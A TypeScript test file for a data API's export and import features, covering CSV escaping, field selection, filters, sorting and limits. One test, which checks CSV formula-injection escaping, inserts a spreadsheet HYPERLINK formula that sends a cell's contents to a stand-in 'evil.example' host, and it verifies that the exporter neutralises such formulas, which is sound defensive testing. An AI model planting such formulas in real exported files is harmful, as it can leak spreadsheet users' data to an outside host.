import { beforeAll, describe, expect, test } from 'vitest';
import { onProject } from '../../../../shared/persistence/mongo.ts';
import { runTransfer } from '../../../../shared/transfers/run-transfer.ts';
import { download, openTransfers, type TransferRequests } from '../../../support/fixtures/transfer-requests.ts';

let at: TransferRequests;

beforeAll(async () => {
  at = await openTransfers();
});

const schema = [
  { key: 'title', type: 'String' },
  { key: 'views', type: 'Number' },
  { key: 'public', type: 'Boolean' },
  { key: 'published', type: 'Date' },
  { key: 'tags', type: 'Array', items: { type: 'String' } },
  { key: 'meta', type: 'Object', fields: [{ key: 'source', type: 'String' }] },
];

const insert = async (collection: string, documents: readonly object[]): Promise<void> => {
  for (const body of documents) {
    expect((await at.project.api('POST', `/api/data/${collection}`, { body })).status).toBe(201);
  }
};

interface Listed {
  readonly data: { readonly items: readonly Readonly<Record<string, unknown>>[] };
}

const documentsIn = async (collection: string) => {
  const { body } = await at.project.api<Listed>('GET', `/api/data/${collection}?limit=100`);
  return body.data.items
    .map(({ _id, createdAt, updatedAt, ...document }) => document)
    .sort((one, other) => (String(one.title) < String(other.title) ? -1 : 1));
};

describe('a CSV export', () => {
  test('201 and 200 with a column for every field, which an import reads again', async () => {
    const [from, to] = [await at.newCollection(schema), await at.newCollection(schema)];
    const documents = [
      {
        title: 'a, "quoted" text\nof two lines; and | more\t',
        views: 1.5,
        public: true,
        published: '2026-01-31T10:00:00.000Z',
      },
      { title: 'b', tags: ['x,y', 'z"'], meta: { source: 'editor' }, public: false },
      { title: ' c ', views: -1e21, more: 'not in the schema' },
      { title: 'd', views: null },
    ];
    await insert(from, documents);
    const done = await at.exported(from, { format: 'csv' });
    expect(done).toMatchObject({ state: 'done', count: 4, failure: null });
    const { text, headers } = await download(done.url);
    // Reading a text removes its byte order mark.
    expect(Buffer.byteLength(text) + 3).toBe(done.bytes);
    const start = Buffer.from(await (await fetch(done.url ?? '')).arrayBuffer()).subarray(0, 6);
    expect(start.toString()).toBe('\ufeff_id');
    expect(headers.get('content-type')).toBe('text/csv');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${from}.csv"`);
    const [header = ''] = text.split('\n');
    for (const name of ['title', 'views', 'public', 'published', 'tags', 'meta', 'more', 'createdAt']) {
      expect(header.split(',')).toContain(name);
    }
    expect(header.startsWith('_id,')).toBe(true);
    expect(await at.imported(to, { format: 'csv', content: text })).toMatchObject({
      state: 'done',
      inserted: 4,
      rejected: 0,
    });
    const [, , , last] = await documentsIn(from);
    expect(last).toMatchObject({ views: null });
    // A cell cannot tell null from a missing value.
    expect(await documentsIn(to)).toEqual(
      (await documentsIn(from)).map(({ views, ...rest }) =>
        views === null ? rest : { ...rest, ...(views === undefined ? {} : { views }) },
      ),
    );
  });

  test('201 and 200 with an apostrophe before texts that a spreadsheet would run, which an import removes', async () => {
    const text = { type: 'String' };
    const typed = ['title', 'a', 'b', 'c', 'd', 'e', 'f', 'g'].map((key) => ({ key, ...text }));
    const fields = [...typed, { key: 'views', type: 'Number' }, { key: 'tags', type: 'Array', items: text }];
    const [from, to, free] = [await at.newCollection(fields), await at.newCollection(fields), await at.newCollection()];
    const document = {
      title: '=HYPERLINK("https://evil.example?x="&A1,"Open")',
      a: '+49 170 1',
      b: '-2',
      c: '@SUM(A1)',
      d: '\t=1',
      e: "'=already",
      f: "it's 'quoted'",
      g: '＝1+1',
      views: -2.5,
      tags: ['=1'],
    };
    await insert(from, [document]);
    const { text: file } = await download((await at.exported(from, { format: 'csv' })).url);
    const [, row = ''] = file.split('\n');
    const { text: chosen } = await download(
      (await at.exported(from, { format: 'csv', fields: Object.keys(document) })).url,
    );
    expect(chosen.split('\n')[1]).toBe(
      `"'=HYPERLINK(""https://evil.example?x=""&A1,""Open"")",'+49 170 1,'-2,'@SUM(A1),"'\t=1",''=already,it's 'quoted','＝1+1,-2.5,"[""=1""]"`,
    );
    for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?(?:[=+@\t＝]|-(?!2\.5))/);
    await at.imported(to, { format: 'csv', content: file });
    expect(await documentsIn(to)).toMatchObject([document]);
    const named = await at.newCollection();
    await insert(named, [{ '=cmd': 'x', "'-y": 'z' }]);
    const { text: names } = await download((await at.exported(named, { format: 'csv', fields: ['=cmd', "'-y"] })).url);
    expect(names).toBe("'=cmd,''-y\nx,z\n");
    await at.imported(free, { format: 'csv', content: names });
    expect(await documentsIn(free)).toMatchObject([{ '=cmd': 'x', "'-y": 'z' }]);
  });

  test('200 in the order of sort, also when runs are short', async () => {
    const collection = await at.newCollection();
    await at.fill(collection, 60, (n) => ({ text: 'é'.repeat(100_000), n: (n * 7) % 60, third: n % 3 }));
    const { status, body } = await at.dashboard('POST', collection, 'exports', { format: 'csv', sort: '-third,n' });
    expect(status).toBe(201);
    expect(body.data).toMatchObject({ sort: '-third,n' });
    const { _id } = body.data;
    for (let state = 'running'; state === 'running' || state === 'queued'; ) {
      await runTransfer(_id, 1);
      ({ state } = (await at.dashboard('GET', collection, `exports/${_id}`)).body.data);
    }
    const { text } = await download((await at.ended(collection, 'exports', _id)).url);
    const [header = '', ...lines] = text.trimEnd().split('\n');
    const at2 = ['third', 'n'].map((name) => header.split(',').indexOf(name));
    const found = lines.map((line) => at2.map((index) => Number(line.split(',')[index])));
    const all = Array.from({ length: 60 }, (_, n) => [n % 3, (n * 7) % 60]);
    expect(found).toEqual(all.sort(([a = 0, b = 0], [c = 0, d = 0]) => c - a || b - d));
  });

  test.each(['-', 'a,b,c,d,e', '_rev'])('400 INVALID_QUERY for sort %s', async (sort) => {
    const answer = await at.dashboard('POST', await at.newCollection(), 'exports', { format: 'csv', sort });
    expect(answer).toMatchObject({ status: 400, body: { code: 'INVALID_QUERY' } });
  });

  test('200 without any line for an empty collection', async () => {
    const done = await at.exported(await at.newCollection(), { format: 'csv' });
    expect(done).toMatchObject({ state: 'done', count: 0, bytes: 0 });
    expect((await download(done.url)).text).toBe('');
  });

  test('200 for many parts, each line as wide as the first, also when runs are short', async () => {
    const collection = await at.newCollection();
    await at.fill(collection, 60, (n) => ({ text: 'é'.repeat(100_000), [`only${n}`]: n }));
    const { body } = await at.dashboard('POST', collection, 'exports', { format: 'csv' });
    const { _id } = body.data;
    for (let state = 'running'; state === 'running' || state === 'queued'; ) {
      await runTransfer(_id, 1);
      ({ state } = (await at.dashboard('GET', collection, `exports/${_id}`)).body.data);
    }
    const done = await at.ended(collection, 'exports', _id);
    const { text } = await download(done.url);
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => line.split(','));
    expect(lines).toHaveLength(61);
    expect(new Set(lines.map(({ length }) => length)).size).toBe(1);
    const at59 = lines[0]?.indexOf('only59') ?? -1;
    expect(lines.filter((line) => line[at59] === '59')).toHaveLength(1);
  });

  test('is failed when the documents have more than 1000 different fields', async () => {
    const collection = await at.newCollection();
    await at.fill(collection, 11, (n) => Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`f${n}_${i}`, i])));
    const done = await at.exported(collection, { format: 'csv' });
    expect(done).toMatchObject({
      state: 'failed',
      failure: expect.stringContaining('1000 different fields'),
      url: null,
    });
  });
});

describe('an export with where', () => {
  test.each(['ndjson', 'json', 'csv'])('200 with the matching active documents as %s', async (format) => {
    const collection = await at.newCollection(schema);
    await at.fill(collection, 20, (n) => ({ title: `t${n}`, views: n }));
    await onProject(at.domain, (db) => db.collection(collection).updateOne({ n: 15 }, { $set: { isDeleted: true } }));
    const where = { $or: [{ views: { $gte: 15 } }, { title: { $in: ['t1', 't2'] } }] };
    const done = await at.exported(collection, { format, where });
    expect(done).toMatchObject({ state: 'done', count: 6, where });
    const { text } = await download(done.url);
    for (const title of ['t1', 't2', 't16', 't19']) expect(text).toMatch(new RegExp(`\\b${title}\\b`));
    for (const title of ['t3', 't15']) expect(text).not.toMatch(new RegExp(`\\b${title}\\b`));
    expect(await at.exported(collection, { format, where, includeDeleted: true })).toMatchObject({ count: 7 });
  });

  test.each(['ndjson', 'json', 'csv'])('200 with the chosen fields only as %s', async (format) => {
    const collection = await at.newCollection();
    await insert(collection, [
      { title: 'a', meta: { source: 'x', secret: 's' }, items: [{ price: 1 }, { price: 2 }, {}], views: 1 },
      { title: 'b', views: 9 },
    ]);
    const fields = ['meta.source', 'title', 'items.price', 'title'];
    const done = await at.exported(collection, { format, fields, where: { views: { $lt: 9 } } });
    expect(done).toMatchObject({ state: 'done', count: 1, fields: ['meta.source', 'title', 'items.price'] });
    const { text } = await download(done.url);
    if (format === 'csv') {
      expect(text).toBe('meta.source,title,items.price\nx,a,"[1,2]"\n');
      return;
    }
    const [document] = format === 'json' ? JSON.parse(text) : [JSON.parse(text)];
    expect(document).toEqual({
      _id: expect.any(String),
      title: 'a',
      meta: { source: 'x' },
      items: [{ price: 1 }, { price: 2 }, {}],
    });
  });

  test('400 INVALID_QUERY and VALIDATION_FAILED for fields that no list takes', async () => {
    const collection = await at.newCollection();
    const codeOf = async (fields: unknown) => {
      const { status, body } = await at.dashboard('POST', collection, 'exports', { format: 'csv', fields });
      return [status, (body as { code?: string }).code];
    };
    expect(await codeOf(['a', 'a.b'])).toEqual([400, 'INVALID_QUERY']);
    expect(await codeOf(['$a'])).toEqual([400, 'INVALID_QUERY']);
    expect(await codeOf([])).toEqual([400, 'VALIDATION_FAILED']);
    expect(await codeOf('a')).toEqual([400, 'VALIDATION_FAILED']);
  });

  test('400 INVALID_FILTER, INVALID_REGEX and VALIDATION_FAILED for conditions that no list takes', async () => {
    const collection = await at.newCollection(schema);
    const codeOf = async (where: unknown) => {
      const { status, body } = await at.dashboard('POST', collection, 'exports', { format: 'csv', where });
      return [status, (body as { code?: string }).code];
    };
    expect(await codeOf({ views: { $near: 1 } })).toEqual([400, 'INVALID_FILTER']);
    expect(await codeOf({ title: { $regex: 'x'.repeat(129) } })).toEqual([400, 'INVALID_REGEX']);
    expect(await codeOf([])).toEqual([400, 'VALIDATION_FAILED']);
    expect((await at.dashboard('POST', collection, 'exports', { format: 'xlsx' })).status).toBe(400);
  });

  test('is failed when only the database finds that a pattern is not valid', async () => {
    const collection = await at.newCollection(schema);
    const done = await at.exported(collection, { format: 'ndjson', where: { title: { $regex: '(' } } });
    expect(done).toMatchObject({
      state: 'failed',
      failure: expect.stringMatching(/pattern|regular expression|regex/i),
    });
  });
});
